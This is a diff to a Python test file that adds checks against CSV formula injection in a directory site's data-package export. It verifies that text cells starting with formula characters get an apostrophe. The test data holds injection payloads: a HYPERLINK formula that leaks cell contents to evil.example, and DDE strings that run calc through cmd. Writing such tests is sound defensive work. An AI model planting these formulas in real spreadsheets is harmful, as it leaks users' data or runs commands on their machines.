@@ -3,16 +3,16 @@ Frictionless data package of CSV tables, as the build writes them."""
 from __future__ import annotations
 
 import csv
-import io
 import json
 import posixpath
+import shutil
 
 import frictionless
 import pytest
 
 from directory import site
 from directory.exports import public_view
-from directory.exports.package import TABLES
+from directory.exports.package import FORMULA_STARTS, TABLES, spreadsheet_text
 from directory.validate import validate
 from support import DATA, FIXTURES
 
@@ -165,3 +165,83 @@ def test_no_export_holds_anything_confidential():
 def test_every_table_column_is_described():
     for table in TABLES:
         assert table.columns and all(c.description for c in table.columns), table.name
+
+
+# -- a text that a spreadsheet would run is written as text -------------------------------
+
+@pytest.mark.parametrize("text, cell", [
+    ("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("- a Markdown list item", "'- a Markdown list item"),
+    ("Gezin = sterk", "Gezin = sterk"),  # only the first character counts
+    ("Tæt støttede opstartsforløb", "Tæt støttede opstartsforløb"),
+    ("", ""),
+])
+def test_a_text_cell_that_begins_as_a_formula_gets_an_apostrophe(text, cell):
+    assert spreadsheet_text(text) == cell
+
+
+def _free_text_columns(out) -> dict[str, list[str]]:
+    package = json.loads((out / "data" / "datapackage.json").read_text("utf-8"))
+    return {r["name"]: [f["name"] for f in r["schema"]["fields"]
+                        if f["type"] == "string" and not {"pattern", "enum"} & set(f.get("constraints", {}))]
+            for r in package["resources"]}
+
+
+def test_no_free_text_cell_of_any_table_begins_as_a_formula(built):
+    _, _, out = built
+    package = json.loads((out / "data" / "datapackage.json").read_text("utf-8"))
+    assert "apostrophe" in package["description"]
+    seen = 0
+    for name, columns in _free_text_columns(out).items():
+        for row in rows(out, name):
+            for column in columns:
+                seen += 1
+                assert not row[column].startswith(FORMULA_STARTS), (name, column, row[column][:40])
+    assert seen > 100
+
+
+def _strings(value):
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for v in value.values():
+            yield from _strings(v)
+    elif isinstance(value, list):
+        for v in value:
+            yield from _strings(v)
+
+
+def test_a_planted_formula_reaches_the_tables_as_text_and_the_json_exactly(tmp_path):
+    """A programme whose name and description begin as formulas: its CSV
+    cells begin with the apostrophe (and the package stays valid), its JSON
+    keeps the texts exactly."""
+    data = tmp_path / "data"
+    shutil.copytree(DATA, data)
+    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
+    text = (data / "programmes.yaml").read_text("utf-8")
+    old = "      nl: Kleinschalig verblijf in familiale setting voor allerjongsten\n"
+    assert old in text
+    text = text.replace(old, f"      nl: '{formula}'\n", 1)
+    old = "      nl: |\n        In 2019 treedt een nieuwe verblijfsvorm"
+    assert old in text
+    text = text.replace(old, "      nl: |\n        - In 2019 treedt een nieuwe verblijfsvorm", 1)
+    (data / "programmes.yaml").write_text(text, "utf-8")
+    result = site.build(data)
+    assert result.ok, [p.format() for p in result.problems]
+    out = tmp_path / "site"
+    site.write(result.files, out)
+    programme = next(r for r in rows(out, "programmes") if r["id"] == "opgroeien-kleinschalig-verblijf-0-3")
+    assert programme["name"] == "'" + formula
+    described = [r for r in rows(out, "texts") if r["record_id"] == "opgroeien-kleinschalig-verblijf-0-3"
+                 and r["field"] == "description" and r["language"] == "nl"]
+    assert described[0]["text"].startswith("'- In 2019")
+    record = json.loads((out / "programmes" / "opgroeien-kleinschalig-verblijf-0-3.json").read_text("utf-8"))
+    strings = list(_strings(record))
+    assert formula in strings and not any(s.startswith("'=") for s in strings)
+    assert any(s.startswith("- In 2019") for s in strings)
+    assert errors(frictionless.validate(str(out / "data" / "datapackage.json"))) == []
